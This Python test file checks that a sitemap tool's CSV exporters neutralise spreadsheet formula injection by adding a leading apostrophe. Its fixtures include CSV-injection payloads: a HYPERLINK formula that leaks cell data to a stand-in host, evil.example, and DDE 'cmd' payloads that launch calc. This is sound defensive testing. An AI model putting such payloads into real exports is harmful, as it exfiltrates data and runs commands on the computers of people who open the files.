"""Issue 15 §5: a CSV export never hands a spreadsheet a formula it did not write.

Cells that start with = + - @, TAB or CR get a leading apostrophe (the OWASP "CSV injection"
advice, what spreadsheet-safe exporters do), in every CSV writer: the `urls` fast path, the record
writer the TUI export uses, and the atomic file writer. `--csv-raw` keeps cells as they are."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import cli_process
import pytest
from pytest_httpserver import HTTPServer

from sitemap_tui.engine.formats import UrlRecord, format_entries, neutralise_cell, render
from sitemap_tui.engine.model import Entry
from sitemap_tui.session.urlfile import write_atomic

NS = "http://www.sitemaps.org/schemas/sitemap/0.9"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return cli_process.run(
        [sys.executable, "-m", "sitemap_tui", *args], capture_output=True, text=True, timeout=120
    )


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_an_apostrophe(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["https://example.com/=x", "2024-01-02", "0.5", "daily", "", "'quoted", " =1"]
)
def test_plain_cells_stay_as_they_are(value: str) -> None:
    assert neutralise_cell(value) == value


def test_every_csv_writer_neutralises_every_text_column() -> None:
    entries = [
        Entry(loc=EVIL, lastmod_raw="-1", changefreq_raw="@daily", priority_raw="+0.5"),
        Entry(loc="https://example.com/ok", lastmod_raw="2024-01-02"),
    ]
    sitemap = "=cmd|'/C calc'!A0"
    fast = rows(format_entries(entries, sitemap, "csv"))
    slow = rows(render((UrlRecord.from_entry(e, sitemap) for e in entries), "csv"))[1:]
    assert fast == slow
    first, second = fast
    assert first[:5] == ["'" + EVIL, "'-1", "'@daily", "'+0.5", "'" + sitemap]
    assert second[:2] == ["https://example.com/ok", "2024-01-02"]
    raw = rows(format_entries(entries, sitemap, "csv-raw"))
    assert raw[0][:5] == [EVIL, "-1", "@daily", "+0.5", sitemap]


def test_the_atomic_writer_too(tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    write_atomic(out, "csv", [UrlRecord.from_entry(Entry(loc=EVIL), "s")])
    assert rows(out.read_text())[1][0] == "'" + EVIL


def test_urls_command(httpserver: HTTPServer, tmp_path: Path) -> None:
    # a relative <loc> is resolved against the sitemap's URL, so the formula rides in another cell
    evil = EVIL.replace("&", "&amp;").replace(chr(34), "&quot;")
    body = f'<urlset xmlns="{NS}"><url><loc>https://example.com/a</loc><lastmod>{evil}</lastmod></url>' \
        "<url><loc>https://example.com/fine</loc></url></urlset>"
    httpserver.expect_request("/s.xml").respond_with_data(body, content_type="application/xml")
    url = httpserver.url_for("/s.xml")
    safe = run("urls", url, "--format", "csv")
    assert safe.returncode == 0, safe.stderr
    assert [r[1] for r in rows(safe.stdout)] == ["lastmod", "'" + EVIL, ""]
    out = tmp_path / "urls.csv"
    raw = run("urls", url, "--format", "csv", "--csv-raw", "--output", str(out))
    assert raw.returncode == 0, raw.stderr
    assert [r[1] for r in rows(out.read_text())] == ["lastmod", EVIL, ""]
    wrong = run("urls", url, "--csv-raw")
    assert wrong.returncode == 2 and "--csv-raw" in wrong.stderr
    assert wrong.stderr.count("\n") == 1


def test_help_says_so() -> None:
    out = " ".join(run("urls", "--help").stdout.split())
    assert "--csv-raw" in out and "formula" in out
